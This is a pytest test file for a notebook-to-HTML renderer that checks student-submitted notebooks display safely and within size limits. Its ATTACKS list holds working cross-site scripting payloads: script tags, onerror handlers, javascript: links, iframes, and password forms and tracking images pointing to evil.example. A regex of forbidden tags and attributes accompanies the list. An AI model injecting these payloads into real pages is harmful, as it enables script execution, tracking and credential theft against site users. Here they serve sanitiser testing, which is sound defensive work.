"""A stranger's notebook as HTML: readable, bounded, and nothing in it runs or is fetched."""

import base64
import json
import re
from typing import Any

import pytest

from campus.submissions.rendering import (
    MOST_BYTES,
    MOST_CELLS,
    MOST_TEXT,
    Rendering,
    SubmissionRejected,
    render_notebook,
    safe_markdown,
    sanitise,
)

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"picture" * 20).decode()


def notebook(*cells: dict[str, Any]) -> bytes:
    made = [{"metadata": {}, **cell} for cell in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def code(source: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "outputs": list(outputs)}


def shows(**data: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {name.replace("_", "/"): value for name, value in data.items()}}


def rendered(*cells: dict[str, Any]) -> Rendering:
    rendering = render_notebook(notebook(*cells))
    assert Rendering.from_bytes(rendering.to_bytes()) == rendering
    return rendering


def test_text_code_tables_and_pictures_are_shown_in_their_order() -> None:
    first, second = rendered(
        {"cell_type": "markdown", "source": ["# Title\n", "**bold** $x^2$\n\n", "| a |\n|-|\n| 1 |"]},
        code(
            ["a = 1\n", "a"],
            {"output_type": "stream", "text": "\x1b[31mred\x1b[0m"},
            shows(image_png=PNG, text_plain="<Figure>"),
            shows(text_html="<table class='dataframe'><tr><td style='x'>1</td></tr></table>", text_plain="1"),
            {"output_type": "execute_result", "data": {"text/plain": ["1\n", "2"]}},
            {"output_type": "error", "traceback": ["line 1", "\x1b[1mValueError"]},
        ),
    ).cells
    assert "<h3>Title</h3>" in first.content
    assert "<math" in first.content
    assert "<strong>bold</strong>" in first.content
    assert second.content == "a = 1\na"
    assert [(one.kind, one.content) for one in second.outputs] == [
        ("text", "red"),
        ("picture", f"data:image/png;base64,{PNG}"),
        ("html", "<table><tbody><tr><td>1</td></tr></tbody></table>"),
        ("text", "1\n2"),
        ("text", "line 1\nValueError"),
    ]


def test_hints_open_and_their_markdown_is_read() -> None:
    html = safe_markdown("<details>\n<summary>Hint 1</summary>\n\nIt is **here**.\n\n</details>")
    assert re.sub(r"\s", "", html) == "<details><summary>Hint1</summary><p>Itis<strong>here</strong>.</p></details>"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/track.png">',
    "![t](https://evil.example/track.png)",
    "![t](data:image/svg+xml;base64,PHN2Zz4=)",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<form action="https://evil.example"><input name=p type=password></form>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<div id="main" class="banner" onclick="alert(1)" hx-get="/accounts/logout/">x</div>',
    '<link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<table background="//evil.example/x.png"><tr><td hx-on="x">1</td></tr></table>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<base href="//evil.example/"><video src="//evil.example/x" poster="//evil.example/y"></video>',
]  # fmt: skip
FORBIDDEN = re.compile(
    r"<(script|img|iframe|style|form|input|svg|object|embed|link|meta|base|video|annotation)|\son\w+=|javascript:|"
    r"\s(id|style|src|hx-[\w-]+|background|poster|data)=|evil\.example",
    re.I,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    (cell,) = rendered({"cell_type": "markdown", "source": attack}).cells
    (output,) = rendered(code("x", shows(text_html=attack))).cells[0].outputs
    (again,) = rendered(code("x", shows(text_markdown=attack))).cells[0].outputs
    for html in (cell.content, output.content, again.content):
        tags = "".join(re.findall(r"<[^>]*>", html))  # words are harmless, tags and their attributes are not
        assert FORBIDDEN.search(tags) is None, html


def test_classes_are_only_our_own() -> None:
    assert sanitise('<td class="align-right banner">1</td><p class="button">x</p>').count("class") <= 1
    assert "banner" not in sanitise('<table><tr><td class="align-right banner">1</td></tr></table>')


@pytest.mark.parametrize(
    "data",
    [
        {"image_png": "no base64!"},
        {"image_png": base64.b64encode(b"<svg onload=alert(1)>").decode()},
        {"image_png": f'{PNG}" onerror="alert(1)'},
        {"image_png": 3},
        {"image_svg+xml": "<svg/>"},
        {"application_javascript": "alert(1)"},
        {},
    ],
)
def test_what_is_no_picture_is_left_out(data: dict[str, Any]) -> None:
    (output,) = rendered(code("x", shows(**data))).cells[0].outputs
    assert (output.kind, output.content) == ("omitted", "")


def test_long_things_are_cut_and_large_notebooks_end() -> None:
    (cell,) = rendered(code("x" * (MOST_TEXT + 1), {"output_type": "stream", "text": "y" * (MOST_TEXT + 9)})).cells
    assert (len(cell.content), cell.is_cut) == (MOST_TEXT, True)
    assert (len(cell.outputs[0].content), cell.outputs[0].is_cut) == (MOST_TEXT, True)

    many = rendered(*[code("x = 1")] * (MOST_CELLS + 7))
    assert (len(many.cells), many.left_out) == (MOST_CELLS, 7)

    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 2_000_000).decode()
    heavy = rendered(*[code("x", shows(image_png=picture))] * 5)
    assert heavy.left_out == 3
    assert len(heavy.to_bytes()) < MOST_BYTES * 1.1


@pytest.mark.parametrize(
    "odd",
    [
        {"cell_type": "raw", "source": "x"},
        {"cell_type": "markdown"},
        {"cell_type": "markdown", "source": {"a": 1}},
        {"cell_type": "code", "source": "x", "outputs": "no list"},
        {"cell_type": "code", "source": "x", "outputs": [3, {"output_type": "display_data", "data": []}, {}]},
    ],
)
def test_odd_cells_do_no_harm(odd: dict[str, Any]) -> None:
    assert len(rendered(code("x = 1"), odd).cells) <= 2


@pytest.mark.parametrize("data", [b"", b"{}", b"[]", b"\xff", b'{"cells": 3}'])
def test_what_is_no_notebook_is_refused(data: bytes) -> None:
    with pytest.raises(SubmissionRejected):
        render_notebook(data)
